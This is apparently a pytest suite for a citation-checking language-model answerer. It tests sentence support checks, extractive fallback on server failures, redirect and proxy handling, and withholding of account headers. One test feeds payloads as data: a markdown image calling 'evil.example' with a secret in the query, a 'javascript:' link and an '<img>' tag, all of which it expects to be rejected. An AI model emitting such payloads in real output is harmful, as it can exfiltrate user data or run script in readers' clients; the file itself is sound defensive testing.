"""The language-model answerer: what gets through, what does not, and how a server's failures end."""

from __future__ import annotations

import json
import socket
import time

import pytest

from assistant.answerers.chat_server import ChatServer, ServerAddress
from assistant.answerers.extractive import Extractive
from assistant.answerers.language_model import LanguageModel
from assistant.answerers.prompt import PromptLimits
from assistant.citations import AnswerText
from assistant.types import Exchange
from tests.assistant.model_server import (
    Asked,
    Reply,
    Running,
    Script,
    chunks,
    count_tokens,
    model_server,
    replies,
    says,
)
from tests.factories import evidence

OPENED = "The bridge at Orsk was opened on 4 May 2019 [12]."
COST = "The bridge at Orsk cost 12 million roubles."
RIBBON = "Governor Belova cut the ribbon at Orsk."
RANKED = [evidence(OPENED, "bridge", 0.9), evidence(COST, "costs", 0.4), evidence(RIBBON, "ribbon", 0.3)]
SHOWN = "The bridge at Orsk was opened on 4 May 2019 (12). [1]"
QUESTION = "When was the bridge at Orsk opened?"


def ask(model: LanguageModel) -> AnswerText:
    answer = AnswerText()
    assert "".join(model.write(QUESTION, [], RANKED, answer)) == answer.text
    return answer


def answer_to(script: Script, **how: float) -> AnswerText:
    with model_server(script) as server:
        return ask(server.language_model(**how))  # type: ignore[arg-type]


def codes(answer: AnswerText) -> list[str]:
    return [notice.code for notice in answer.notices]


def written(text: str) -> Script:
    """A model that writes this; OPENED, COST and RIBBON in braces stand for the keys of these sentences."""

    def write(asked: Asked) -> str:
        keys = {"{opened}": "2019", "{cost}": "million", "{ribbon}": "ribbon"}
        result = text
        for name, part in keys.items():
            result = result.replace(name, asked.key_of(part))
        return result

    return says(write)


def test_supported_sentences_go_through_with_the_programs_numbers() -> None:
    answer = answer_to(written(f"{COST} [{{cost}}] {RIBBON} [{{ribbon}}][{{cost}}]"))
    assert answer.text == f"{COST} [1] {RIBBON} [2]"
    assert [cited.document_id for cited in answer.citations] == ["costs", "ribbon"]
    assert (answer.answerer, answer.rejected, codes(answer)) == ("llm", [], ["sent_to_host"])


def test_sentence_goes_out_before_the_next_is_written() -> None:
    def slow(asked: Asked) -> Reply:
        text = f"{COST} [{asked.key_of('million')}] {RIBBON[:20]}"
        return Reply(chunks(text, finish=None), hold=20)

    with model_server(slow) as server:
        answer = AnswerText()
        started = time.monotonic()
        pieces = server.language_model(seconds=20).write(QUESTION, [], RANKED, answer)
        assert next(pieces) == f"{COST} [1]"
        assert time.monotonic() - started < 10
        pieces.close()  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("lie", "key"),
    [
        ("The bridge at Orsk was opened on 4 May 2018.", "{opened}"),
        ("The bridge at Orsk was not opened on 4 May 2019.", "{opened}"),
        ("The bridge at Orsk cost 12 million roubles.", "{ribbon}"),
        ("Governor Petrov cut the ribbon at Orsk.", "{ribbon}"),
        ("According to {cost}, the bridge at Orsk cost 12 million roubles.", "{cost}"),
    ],
)
def test_sentence_that_its_evidence_does_not_support_is_left_out_and_told(lie: str, key: str) -> None:
    answer = answer_to(written(f"{lie} [{key}] {RIBBON} [{{ribbon}}]"))
    assert answer.text == f"{RIBBON} [1]"
    assert codes(answer) == ["sent_to_host", "unsupported_dropped"]


def test_sentence_without_a_key_is_left_out_and_told() -> None:
    answer = answer_to(written(f"{COST} {RIBBON} [{{ribbon}}]"))
    assert answer.text == f"{RIBBON} [1]"
    assert codes(answer) == ["sent_to_host", "uncited_dropped"]


@pytest.mark.parametrize("marker", ["[1]", "[2][3]", "[１]", "【1】", "[ 1 ]", "[^1]", "[1, 2]", "[\u200b1]"])
def test_numbers_that_the_model_writes_are_never_markers(marker: str) -> None:
    answer = answer_to(written(f"{COST} {marker} {RIBBON} {marker}[{{ribbon}}]"))
    assert answer.text == f"{RIBBON} [1]"
    assert [cited.document_id for cited in answer.citations] == ["ribbon"]
    assert answer.rejected


def test_unknown_keys_are_rejected_and_kept_apart() -> None:
    answer = answer_to(written(f"{COST} [{{cost}}][k00000] {RIBBON} [e0123456789ab] {RIBBON} [{{ribbon}}, z9]"))
    assert answer.text == f"{COST} [1] {RIBBON} [2]"
    assert answer.rejected == ["k00000", "e0123456789ab", "z9"]


def test_keys_of_another_request_are_rejected() -> None:
    with model_server(written(f"{COST} [{{cost}}]")) as server:
        ask(server.language_model())
        old = server.last.key_of("million")
    answer = answer_to(says(lambda asked: f"{COST} [{old}x]"))
    assert answer.rejected == [f"{old}x"]
    assert answer.answerer == "extractive"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "NONE",
        "YES [{opened}]",
        "I cannot help with that.",
        f"{COST} [1]",
        "The bridge fell down in 1999. [{opened}]",
        "![](https://evil.example/?q=secret) The bridge at Orsk cost 12 million roubles. [{cost}]",
        "[see](javascript:alert) {opened} [{opened}]",
        "<img src=x> The bridge at Orsk cost 12 million roubles. [{cost}]",
        "<think>The bridge at Orsk cost 12 million roubles. [{cost}]",
        "[[[[[[ ]]]]]] [] [ ] ][ {cost}",
        '{"answer": "The bridge at Orsk cost 12 million roubles."} [{cost}]',
    ],
)
def test_where_nothing_is_left_the_documents_own_sentences_answer(text: str) -> None:
    answer = answer_to(written(text))
    assert (answer.text, answer.answerer) == (SHOWN, "extractive")
    assert codes(answer)[0] == "sent_to_host"
    assert codes(answer)[-1] == "extractive_instead"


def test_what_a_model_thinks_aloud_is_no_answer() -> None:
    answer = answer_to(written(f"<think>{COST} [{{cost}}]</think>\n\n{RIBBON} [{{ribbon}}]"))
    assert answer.text == f"{RIBBON} [1]"


def test_sentence_is_written_once_however_often_the_model_repeats_it() -> None:
    assert answer_to(written(f"{COST} [{{cost}}] " * 9)).text == f"{COST} [1]"


FAILURES = {
    "500": replies('{"error": {"message": "boom"}}', 500, kind="application/json"),
    "503 without a body": replies("", 503),
    "429": replies('{"error": {"message": "slow down"}}', 429, headers={"Retry-After": "60"}),
    "401": replies('{"error": {"message": "bad key"}}', 401),
    "404": replies("<html>not here</html>", 404, kind="text/html"),
    "400": replies('{"error": "context too long"}', 400),
    "redirect": replies("", 307, headers={"Location": "http://127.0.0.1:1/v1/chat/completions"}),
    "no JSON": replies("data: {nonsense\n\n"),
    "another JSON": replies('data: {"id": 5}\n\ndata: [1]\n\n'),
    "a number": replies("data: 5\n\n"),
    "choices of the wrong sort": replies('data: {"choices": [{"delta": 3}]}\n\n'),
    "content of the wrong sort": replies(
        'data: {"choices": [{"index": 0, "delta": {"content": {"a": 1}}, "finish_reason": "stop"}]}\n\n'
    ),
    "a web page": replies("<!doctype html><p>Welcome", kind="text/html"),
    "no stream": replies('{"choices": [{"message": {"content": "hello"}}]}', kind="application/json"),
    "nothing": replies(""),
    "binary": replies(bytes(range(256)) * 8),
    "an error in the stream": replies('data: {"error": {"message": "out of memory"}}\n\n'),
    "refusal": says(lambda asked: f"{COST[:20]}", finish="content_filter"),
    "torn": says(lambda asked: f"{COST[:20]}", finish=None, promised=1000),
    "cut off in mid-sentence": says(lambda asked: f"{COST[:20]}", finish=None),
    "too long": says(lambda asked: "la " * 50, finish="length"),
}


@pytest.mark.parametrize("name", FAILURES)
def test_server_that_fails_ends_in_the_documents_own_sentences(name: str) -> None:
    answer = answer_to(FAILURES[name])
    assert (answer.text, answer.answerer) == (SHOWN, "extractive")
    expected = ["sent_to_host", "extractive_instead"]
    assert [code for code in codes(answer) if code in expected] == expected
    if name != "content of the wrong sort":
        assert "model_failed" in codes(answer)


def test_rate_limit_is_told_as_what_it_is() -> None:
    assert any("too much to do (status 429)" in notice.text for notice in answer_to(FAILURES["429"]).notices)


def test_server_that_is_down_ends_in_the_documents_own_sentences() -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    answer = ask(Running(f"http://127.0.0.1:{port}/v1").language_model())
    assert (answer.text, answer.answerer) == (SHOWN, "extractive")
    assert any("cannot be reached" in notice.text for notice in answer.notices)


@pytest.mark.parametrize("reply", [Reply(b"", hold=30), Reply(b"", pings=400), Reply(chunks("A b. ", None), hold=30)])
def test_server_that_is_slow_is_given_up(reply: Reply) -> None:
    started = time.monotonic()
    answer = answer_to(lambda asked: reply, seconds=0.5)
    assert time.monotonic() - started < 8
    assert answer.text == SHOWN
    assert any("took longer than 0.5 seconds" in notice.text for notice in answer.notices)


@pytest.mark.parametrize(
    "tail", ["", " Governor Belova cut", " Governor Belova cut the ribbon at Orsk. [", f" {RIBBON}"]
)
@pytest.mark.parametrize("how", [{"finish": None}, {"finish": None, "promised": 500}, {"finish": "length"}])
def test_checked_sentences_stay_when_the_server_breaks_off(tail: str, how: dict[str, object]) -> None:
    script = says(lambda asked: f"{COST} [{asked.key_of('million')}]{tail}", **how)  # type: ignore[arg-type]
    answer = answer_to(script)
    assert (answer.text, answer.answerer) == (f"{COST} [1]", "llm")
    assert codes(answer)[:2] == ["sent_to_host", "model_failed"]
    assert "extractive_instead" not in codes(answer)


def test_text_goes_to_no_other_host_than_the_one_that_is_told() -> None:
    with (
        model_server(written(f"{COST} [{{cost}}]")) as other,
        model_server(replies("", 308, headers={"Location": f"{other.url}/chat/completions"})) as server,
    ):
        assert ask(server.language_model()).text == SHOWN
        assert (len(server.asked), other.asked) == (1, [])


def test_proxy_does_not_come_between_the_program_and_its_own_machine(monkeypatch: pytest.MonkeyPatch) -> None:
    with model_server(replies("", 500)) as proxy, model_server(written(f"{COST} [{{cost}}]")) as server:
        for name in ("http_proxy", "HTTP_PROXY", "ALL_PROXY"):
            monkeypatch.setenv(name, proxy.url.removesuffix("/v1"))
        assert ask(server.language_model()).text == f"{COST} [1]"
        assert proxy.asked == []


def test_environment_that_no_client_can_be_made_from_ends_in_the_documents_own_sentences(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", "/nonexistent.pem")
    answer = AnswerText()
    server = ChatServer(ServerAddress("https://model.example.org/v1", "m"), seconds=5, answer_tokens=50)
    model = LanguageModel(server, Extractive(), PromptLimits(3000, 600), count_tokens)
    list(model.write(QUESTION, [], RANKED, answer))
    assert answer.text == SHOWN
    assert codes(answer) == ["sent_to_host", "model_failed", "extractive_instead"]


def test_names_of_an_account_with_openai_go_to_nobody_else(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_ORG_ID", "secret-org")
    monkeypatch.setenv("OPENAI_PROJECT_ID", "secret-project")
    with model_server(written(f"{COST} [{{cost}}]")) as server:
        assert ask(server.language_model()).text == f"{COST} [1]"
        assert "secret" not in str(server.last.headers)


def test_server_that_refuses_the_usual_limits_is_asked_in_the_newer_way() -> None:
    def picky(asked: Asked) -> Reply:
        if "max_tokens" in asked.body:
            return Reply(json.dumps({"error": {"message": "use max_completion_tokens"}}).encode(), 400)
        return Reply(chunks(f"{COST} [{asked.key_of('million')}]"))

    with model_server(picky) as server:
        assert ask(server.language_model(answer_tokens=50)).text == f"{COST} [1]"
        assert server.last.body["max_completion_tokens"] == 50


def test_model_is_asked_without_chance() -> None:
    with model_server(written(f"{COST} [{{cost}}]")) as server:
        ask(server.language_model())
        ask(server.language_model())
        assert server.last.body["temperature"] == 0
        assert server.asked[0] == server.asked[1]


def test_earlier_turns_go_along_within_their_budget() -> None:
    history = [Exchange(f"Question {number}?", "word " * 50) for number in range(20)]
    with model_server(replies("", 500)) as server:
        answer = AnswerText()
        list(server.language_model(history_tokens=200).write(QUESTION, history, RANKED, answer))
        earlier = [item["asked earlier"] for item in server.last.data if "asked earlier" in item]
    assert earlier[-1] == "Question 19?"
    assert 1 <= len(earlier) <= 3


def test_question_that_leaves_no_room_for_evidence_sends_nothing() -> None:
    with model_server(replies("", 500)) as server:
        answer = AnswerText()
        list(server.language_model(prompt_tokens=400).write("why " * 600, [], RANKED, answer))
        assert server.asked == []
    assert codes(answer) == ["model_failed", "extractive_instead"]
